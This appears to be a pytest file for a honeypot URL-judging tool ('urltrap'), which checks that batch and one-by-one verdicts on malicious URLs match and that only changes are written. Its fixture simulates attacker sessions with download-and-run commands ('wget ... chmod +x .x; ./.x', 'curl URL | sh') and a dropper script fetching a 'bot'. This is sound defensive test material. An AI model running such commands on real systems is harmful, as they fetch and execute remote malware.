"""Judging many URLs at once says what judging each alone says, and writes only what is new."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import delete, insert, select, update
from tests.analysis.samples import LOOKALIKES, elf
from tests.pipeline.conftest import START, Bench

from urltrap.judge import Evidence, Payload, judge, rules
from urltrap.pipeline import evidence, judging
from urltrap.pipeline.judging import judge_urls
from urltrap.pipeline.rejudging import rejudge
from urltrap.store.rows import url_key
from urltrap.store.schema import observations, urls, verdicts

NOW = datetime(2026, 11, 24, 5, tzinfo=UTC)


def fill(bench: Bench) -> None:
    """URLs of every kind: run, piped, only named, of several sources, in payloads, listed, of programs and of none."""
    bodies: dict[str, bytes | str] = {
        "http://198.51.100.1/bot": LOOKALIKES["mirai"][0],
        "http://198.51.100.2/run.sh": b"#!/bin/sh\nwget http://198.51.100.1/bot\nwget http://198.51.100.9/next\n",
        "http://198.51.100.3/page": b"<html><body>hello</body></html>",
        "http://files.botnet.xyz/a": elf(b"plain", b"http://198.51.100.44/hidden"),
        "http://198.51.100.5/gone": "not-found",
    }
    bench.fetcher.bodies.update(bodies)
    for number, url in enumerate([*bodies, "http://named.botnet.xyz/x?y=1", "https://198.51.100.1/bot"]):
        for visit in range(1 + number % 3):
            bench.visit(
                b"cd /tmp; wget -O .x %s; chmod +x .x; ./.x" % url.encode(), b"curl %s | sh" % url.encode(),
                asks=[(url.encode(), b"/tmp/.x"), (url.upper().encode(), b"/tmp/y")],
                runs=[[b"chmod", b"755", b".x"], [b"./.x"]][: number % 3],
                address=f"203.0.113.{10 * number + visit}",
            )  # fmt: skip
        bench.time += timedelta(minutes=7)
    bench.settle()
    with bench.store.begin() as connection:
        connection.execute(
            insert(observations),
            [
                {"subject_sha256": url_key(subject), "subject": subject, "provider": provider, "subject_kind": kind,
                 "result": result, "detail": "this URL", "tags": ["mirai"], "at": START, "reference": ""}
                for subject, kind, provider, result in [
                    ("http://198.51.100.5/gone", "url", "urlhaus", "listed"),
                    ("files.botnet.xyz", "host", "threatfox", "listed"),
                    ("http://198.51.100.3/page", "url", "urlscan", "not-listed"),
                ]
            ],
        )  # fmt: skip


def kept(bench: Bench) -> list[list[Any]]:
    with bench.store.connect() as connection:
        return [
            [
                dict(row._mapping)
                for row in connection.execute(select(table).order_by(table.primary_key.columns[0]))
            ]
            for table in (urls, verdicts)
        ]


def test_all_at_once_one_by_one_and_with_more_sightings_than_are_read_gives_the_same_rows(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(bench)
    with bench.store.begin() as connection:
        connection.execute(delete(verdicts))  # so that all of them are of one moment
    rejudge(bench.workshop)
    expected = kept(bench)
    assert {row["verdict"] for row in expected[0]} >= {
        "malicious-confirmed",
        "malicious-observed",
        "suspicious",
    }
    for alone in (False, True):
        with bench.store.begin() as connection:
            connection.execute(delete(verdicts))
            connection.execute(update(urls).values(role="", delivery="?", hosting="", sha256=None, status=1))
        if alone:
            # Fewer than there are: the session that showed a URL first is then asked for by itself.
            monkeypatch.setattr(evidence, "_SIGHTINGS", 4)
            for row in expected[0]:
                with bench.store.begin() as connection:
                    judge_urls(bench.workshop, connection, [row["key"]])
            monkeypatch.undo()
        rejudge(bench.workshop)
        assert kept(bench) == expected


def test_what_says_the_same_is_not_written_and_what_changed_is(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(bench)
    rejudge(bench.workshop)
    before = kept(bench)
    bench.time += timedelta(hours=1)
    rejudge(bench.workshop)
    assert kept(bench) == before
    with bench.store.begin() as connection:
        connection.execute(update(urls).where(urls.c.key == before[0][0]["key"]).values(lifecycle="moved"))
        connection.execute(
            update(verdicts).where(verdicts.c.url_key == before[1][1]["url_key"]).values(confidence=1)
        )
    rejudge(bench.workshop)
    after = kept(bench)
    assert after[0] == before[0]
    assert [row["at"] for row in after[1]] == [
        bench.time if number == 1 else row["at"] for number, row in enumerate(before[1])
    ]
    monkeypatch.setattr(rules, "RULES", "next")
    rejudge(bench.workshop)
    assert {(row["rules"], row["at"]) for row in kept(bench)[1]} == {("next", bench.time)}


@pytest.mark.parametrize("answered", [None, NOW, NOW + timedelta(microseconds=5)])
def test_what_is_kept_of_a_verdict_is_what_its_model_would_be_written_as(answered: datetime | None) -> None:
    found = Evidence(
        url="http://198.51.100.7:81/bins/x.mips", host="198.51.100.7", port=81, scheme="http", raw_address=True,
        first_seen=NOW, secret="s", asked=True, run=True, sources=2, protocols=("ssh",), clients=('w"gé',),
        payloads=(Payload("a" * 64, "elf", "mips", status=200, family="Mirai"),), techniques=("T1105", "T1222"),
        first_online=answered, last_online=answered, outcomes=("fetched",),
    )  # fmt: skip
    verdict = judge(found, NOW, (0, 0))
    classes = verdict.model_dump(mode="json", include={"axes", "family", "fp_risk", "techniques"})
    reasons, name, confidence, version, after, kept_classes = judging._said(
        rules.judgement(found, NOW, (0, 0))
    )
    assert kept_classes == json.dumps(classes, separators=(",", ":"))
    assert reasons == json.dumps([reason.model_dump() for reason in verdict.reasons], separators=(",", ":"))
    assert (name, confidence, version, after) == (
        verdict.verdict, verdict.confidence, verdict.rules, verdict.publish_after,
    )  # fmt: skip
